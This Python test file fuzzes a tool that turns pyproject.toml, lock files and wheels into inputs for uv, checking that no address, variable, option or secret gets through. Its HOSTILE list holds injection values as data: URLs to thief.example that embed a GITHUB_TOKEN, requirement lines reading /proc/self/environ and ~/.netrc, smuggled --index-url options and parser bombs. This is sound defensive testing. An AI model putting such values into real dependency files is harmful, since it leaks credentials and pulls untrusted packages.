"""Whatever a pyproject.toml, a lock and a wheel hold: uv is given names and versions, or nothing.

A few seconds; longer with MODELYARD_LONG=1.
"""

import os
import re
import time
import tomllib
from typing import Any

import tomlkit
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from modelyard.lockfiles import lines, relock
from modelyard.lockfiles.sources import Source
from modelyard.lockfiles.stale import Stale
from modelyard.lockfiles.uv import inputs as uv_input
from modelyard.lockfiles.uv.inputs import UvInput
from tests.tool.wheels import wheel

SECRET_NAME, PLANTED = "GITHUB_TOKEN", "pl4nt3d"
EXAMPLES = 3000 if os.environ.get("MODELYARD_LONG") else 150
PLACE = "vendor/mine-1-py3-none-any.whl"
HOSTILE = (
    "evil @ http://thief.example/${GITHUB_TOKEN}/x.whl",
    "evil @ file:///proc/self/environ",
    "git+ssh://thief.example/${GITHUB_TOKEN}",
    "one ; os_name == '${GITHUB_TOKEN}'",
    "one===${GITHUB_TOKEN}",
    "one==1 --index-url http://thief.example",
    "one==1\n--index-url http://thief.example/",
    "one==1\u2028-r /proc/self/environ",
    "-r /proc/self/environ",
    "-r ~/.netrc",
    "-e .",
    "--extra-index-url=http://u:${GITHUB_TOKEN}@thief.example/simple",
    "../evil-1-py3-none-any.whl",
    "http://thief.example/evil-1-py3-none-any.whl",
    "$GITHUB_TOKEN",
    "%GITHUB_TOKEN%",
    "((" * 900,
    "[" * 3000,
)
HARMLESS = (
    "one",
    "one>=1",
    "two[x]~=1.0 ; python_version < '4'",
    "mine==1",
    ">=3.11",
    "1.0",
    "repo",
    "x",
    PLACE,
    "highest",
    "sys_platform == 'linux'",
)
TEXTS = st.sampled_from(HOSTILE) | st.sampled_from(HARMLESS) | st.text(max_size=12)
VALUES = TEXTS | st.integers(-9, 9) | st.booleans() | st.floats() | st.dates()
KEYS = st.sampled_from(
    [
        "name",
        "version",
        "requires-python",
        "dependencies",
        "optional-dependencies",
        "dynamic",
        "x",
        "include-group",
        "path",
        "git",
        "url",
        "index",
        "marker",
        "workspace",
        "explicit",
        "-r",
        "a:b",
    ]
)
NODES: st.SearchStrategy[Any] = st.recursive(
    VALUES,
    lambda node: st.lists(node, max_size=3) | st.dictionaries(KEYS, node, max_size=4),
    max_leaves=10,
)
LISTS = st.lists(st.sampled_from(HARMLESS), max_size=3) | st.lists(TEXTS, max_size=3) | NODES
GROUPS = st.dictionaries(st.sampled_from(["dev", "x", "-r", "../p:g"]), LISTS, max_size=2) | NODES
PROJECT = st.fixed_dictionaries(
    {"name": st.just("repo") | NODES, "version": st.just("1") | NODES},
    optional={
        "requires-python": st.just(">=3.11") | NODES,
        "dependencies": LISTS,
        "optional-dependencies": GROUPS,
        "dynamic": NODES,
    },
)
SETTINGS = st.dictionaries(
    st.sampled_from(
        [
            "index",
            "index-url",
            "find-links",
            "sources",
            "pip",
            "cache-dir",
            "environments",
            "constraint-dependencies",
            "override-dependencies",
            "workspace",
            "resolution",
            "package",
            "extra-build-dependencies",
            "exclude-newer",
            "dev-dependencies",
            "a.b",
        ]
    ),
    NODES | LISTS,
    max_size=3,
)
UV: st.SearchStrategy[Any] = (
    st.just({}) | st.just({"sources": {"mine": {"path": PLACE}}}) | SETTINGS
)
PYPROJECTS = st.fixed_dictionaries(
    {"project": PROJECT, "tool": st.fixed_dictionaries({"uv": UV})},
    optional={"dependency-groups": GROUPS, "build-system": NODES},
)
PINS = ("one==1.0", "two==1.1 ; os_name == 'nt'", "    --hash=sha256:" + "0" * 64, "# via x", PLACE)
LOCKS = st.lists(st.sampled_from([*PINS, *(f"{pin} \\" for pin in PINS)]) | TEXTS, max_size=6)
PACKAGES = st.lists(
    st.fixed_dictionaries(
        {"name": st.just("one") | NODES, "version": st.just("1.0") | NODES},
        optional={
            "source": st.just({"registry": "http://thief.example/${GITHUB_TOKEN}"}) | NODES,
            "resolution-markers": NODES,
            "wheels": NODES,
        },
    ),
    max_size=3,
)
MACHINE = {"PATH": "/bin", "HOME": "/home", SECRET_NAME: PLANTED, "UV_INDEX_X_PASSWORD": PLANTED}
MINE = Source("mine", PLACE, wheel("mine", "1", ["one"]))


def toml(value: Any) -> bytes:
    return tomlkit.dumps(value).encode("utf-8", "surrogatepass")


def given_to_uv(
    name: str, project: bytes, lock: bytes, sources: tuple[Source, ...], template: bytes
) -> UvInput | None:
    try:
        found = uv_input.build(name, project, lock, sources, template, MACHINE, builds=False)
    except Stale as stale:
        assert not re.search(r"thief|\$|://|[\x00-\x1f]|" + PLANTED, stale.about), stale.about
        return None
    return found


def holds_names_alone(found: UvInput | None) -> None:
    """Assert that nothing which uv is given is an address, a variable, an option or a secret."""
    if found is None:
        return
    assert PLANTED not in dict(found.environment).values()
    for path, content in found.files:
        text = content.decode("utf-8", "replace").replace("https://registry.invalid/simple", "")
        assert not re.search(rf"thief|\$|://|/proc|netrc|{PLANTED}|(?m:^\s*-[^-\s])", text), path
        options = re.findall(r"--[a-z][a-z-]*", text)
        assert path.endswith(".whl") or set(options) <= {"--hash"}, options
    words = [word for word in found.arguments if word.startswith("-")]
    known = {"--quiet", "--no-progress", "--python", "--no-build", "--group", "--extra", "-o"}
    known |= {"--universal", "--generate-hashes", "--no-header", "--no-annotate"}
    known |= {"--python-version", "--no-emit-package", "--custom-compile-command"}
    assert set(words) <= known and "--no-build" in words
    table = tomllib.loads(dict(found.files)["pyproject.toml"].decode())
    assert table.keys() <= {"project", "dependency-groups", "tool"}
    assert not table["tool"]["uv"].keys() & {"cache-dir", "find-links", "index-url", "pip"}


LONG = settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=list(HealthCheck))


@LONG
@given(PYPROJECTS, LOCKS, UV)
def test_a_repo_with_a_requirements_lock(project: Any, lock: list[str], template: Any) -> None:
    # Half of the time the template has the same settings, so that they get further.
    for theirs in ({"tool": {"uv": template}}, project):
        content = "\n".join(lock).encode("utf-8", "surrogatepass")
        arguments = "requirements.lock", toml(project), content, (MINE,), toml(theirs)
        holds_names_alone(given_to_uv(*arguments))


@LONG
@given(PYPROJECTS, PACKAGES, NODES)
def test_a_repo_with_a_uv_lock(project: Any, packages: Any, more: Any) -> None:
    lock = {"version": 1, "package": packages, "resolution-markers": more}
    arguments = "uv.lock", toml(project), toml(lock), (MINE,), toml(project)
    holds_names_alone(given_to_uv(*arguments))


@LONG
@given(st.lists(TEXTS, max_size=3), st.lists(TEXTS, max_size=3), TEXTS)
def test_a_wheel(requires: list[str], constraints: list[str], version: str) -> None:
    files = {"mine/constraints.txt": "\n".join(constraints).encode("utf-8", "ignore").decode()}
    asks = [one.encode("utf-8", "ignore").decode() for one in requires]
    content = wheel("mine", version.encode("utf-8", "ignore").decode(), asks, files)
    arguments = "requirements.lock", PROJECT_OF_MINE, b"one==1.0\n"
    holds_names_alone(given_to_uv(*arguments, (Source("mine", PLACE, content),), PROJECT_OF_MINE))


PROJECT_OF_MINE = toml(
    {
        "project": {"name": "repo", "version": "1", "dependencies": ["mine"]},
        "tool": {"uv": {"sources": {"mine": {"path": PLACE}}}},
    }
)


@LONG
@given(st.binary(max_size=200), st.binary(max_size=200), st.binary(max_size=200))
def test_any_bytes(project: bytes, lock: bytes, content: bytes) -> None:
    for name in ("requirements.lock", "uv.lock"):
        for source in ((), (Source("mine", PLACE, content),)):
            for one in (project, PROJECT_OF_MINE):
                holds_names_alone(given_to_uv(name, one, lock, source, one))


def test_what_is_generated_gets_through_too() -> None:
    found = given_to_uv(
        "requirements.lock", PROJECT_OF_MINE, b"one==1.0\n", (MINE,), PROJECT_OF_MINE
    )
    assert found is not None
    holds_names_alone(found)


def test_a_bomb_takes_little_time() -> None:
    begun = time.process_time()
    deep = b"[project]\nname = 'a'\nversion = '1'\n" + b"a" + b".a" * 50_000 + b" = 1\n"
    quoted = b'"a"' + b' . "a"' * 50_000 + b" = 1\n"
    many = b"[project]\nname='a'\nversion='1'\ndependencies=[" + b"'one'," * 20_000 + b"]\n"
    for project in (deep, quoted, many, b"#" * 6_000_000, b"x = " + b"[" * 100_000, b"a" * 900_000):
        assert relock.compile("requirements.lock", project, b"").content is None
    plain = PROJECT_OF_MINE.partition(b"[tool")[0]
    for lock in (b"\n" * 900_000, b"[" * 900_000, b"a" + b" " * 900_000, b"\\\n" * 90_000):
        given_to_uv("requirements.lock", plain, lock, (), b"")
        lines.parse(lock.decode(), {})
    assert time.process_time() - begun < 20
